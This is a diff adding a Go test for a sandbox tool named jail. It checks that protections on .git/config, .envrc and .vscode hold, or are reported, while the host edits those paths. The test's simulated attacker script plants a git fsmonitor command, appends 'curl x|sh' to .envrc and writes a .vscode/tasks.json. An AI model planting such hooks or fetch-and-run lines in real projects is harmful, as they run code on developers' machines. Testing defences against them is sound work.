@@ -1,0 +1,126 @@
+package main
+
+import (
+	"bufio"
+	"encoding/json"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/jail-sandbox/jail/jail"
+)
+
+// TestProtectionsHoldWhileTheHostEdits: while a sandbox keeps trying to write protected paths,
+// the host replaces or removes them as people and tools do (`git config`, which writes
+// .git/config by lock file and rename; `mv` of a new .envrc over the old; `rmdir` of the
+// .vscode placeholder). The kernel drops a protection's mount in the sandbox when the host does
+// that; jail's pid 1 sees it happen and stops the sandbox (exit 125) with a line saying what
+// happened and what is at the name now, on stderr or in --report. Afterwards the host's own git
+// runs no planted fsmonitor, and nothing the sandbox planted went unreported. The sandbox could
+// write there between the host's change and pid 1's stop (microseconds, against its one attempt
+// every 20 ms): if it did, jail's line names what is there, and the test checks the line says so.
+func TestProtectionsHoldWhileTheHostEdits(t *testing.T) {
+	for _, c := range []struct {
+		name   string
+		setup  string // on the host, before the run
+		host   string // on the host, during the run
+		path   string // the protected path it replaces or removes
+		report bool   // with --report: the host stays and pid 1 reports through it
+	}{
+		{"git config", "", "git config user.name Host", ".git/config", false},
+		{"git config, reported", "", "git config user.name Host", ".git/config", true},
+		{"mv over .envrc", "echo 'export SAFE=1' >.envrc", "echo 'export NEW=1' >e.new && mv e.new .envrc", ".envrc", false},
+		{"rmdir placeholder", "", "rmdir .vscode", ".vscode", false},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			proj, _ := project(t)
+			marker := filepath.Join(t.TempDir(), "P")
+			if c.setup != "" {
+				hostSh(t, proj, c.setup)
+			}
+			attack := `echo ready; for i in $(seq 250); do
+  git config core.fsmonitor "id>` + marker + `;echo" 2>/dev/null
+  echo 'curl x|sh' 2>/dev/null >>.envrc
+  mkdir -p .vscode 2>/dev/null; echo '{}' 2>/dev/null >.vscode/tasks.json
+  sleep 0.02
+done; echo "the protections stayed"`
+			var args []string
+			report := filepath.Join(t.TempDir(), "report.json")
+			if c.report {
+				args = []string{"--report", report}
+			}
+			cmd := exec.Command(jailBin, append(args, "--", "sh", "-c", attack)...)
+			cmd.Dir = proj
+			var errb strings.Builder
+			cmd.Stderr = &errb
+			out, err := cmd.StdoutPipe()
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := cmd.Start(); err != nil {
+				t.Fatal(err)
+			}
+			t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
+			if line, _ := bufio.NewReader(out).ReadString('\n'); line != "ready\n" {
+				t.Fatalf("the sandbox did not start: %q, %s", line, errb.String())
+			}
+			hostSh(t, proj, c.host)
+			io.Copy(io.Discard, out)
+			cmd.Wait()
+			line := errb.String()
+			if c.report {
+				var r jail.Report
+				b, _ := os.ReadFile(report)
+				if err := json.Unmarshal(b, &r); err != nil {
+					t.Fatalf("report: %v", err)
+				}
+				line = r.Error
+			}
+			want := "protect " + filepath.Join(proj, c.path) + ": "
+			if code := cmd.ProcessState.ExitCode(); code != 125 || !strings.Contains(line, want) || !strings.Contains(line, "the sandbox was stopped") {
+				t.Errorf("exit %d, %q; want 125 and a line naming %s", code, line, c.path)
+			}
+			if now := whatIsThere(filepath.Join(proj, c.path)); !strings.Contains(line, now) {
+				t.Errorf("jail says %q, but %s", line, now)
+			}
+			// The host's own git: a planted fsmonitor would write the marker.
+			hostSh(t, proj, "git status --porcelain >/dev/null")
+			if _, err := os.Stat(marker); err == nil && !strings.Contains(line, ".git/config") {
+				t.Error("the host's git status ran the sandbox's fsmonitor, and jail did not say .git/config changed")
+			}
+			if b, _ := os.ReadFile(filepath.Join(proj, ".envrc")); strings.Contains(string(b), "curl") && c.path != ".envrc" {
+				t.Errorf(".envrc was written: %q", b)
+			}
+			if _, err := os.Stat(filepath.Join(proj, ".vscode", "tasks.json")); err == nil && c.path != ".vscode" {
+				t.Error(".vscode/tasks.json was planted")
+			}
+		})
+	}
+}
+
+// hostSh runs script with sh on the host, in dir.
+func hostSh(t *testing.T, dir, script string) {
+	t.Helper()
+	cmd := exec.Command("sh", "-c", script)
+	cmd.Dir = dir
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("%s: %v: %s", script, err, out)
+	}
+}
+
+// whatIsThere says what is at p as pid 1's line does.
+func whatIsThere(p string) string {
+	st, err := os.Lstat(p)
+	switch {
+	case err != nil:
+		return "nothing is there now"
+	case st.IsDir():
+		entries, _ := os.ReadDir(p)
+		return fmt.Sprintf("a directory of %d entries is there now", len(entries))
+	}
+	return fmt.Sprintf("a file of %d bytes is there now", st.Size())
+}
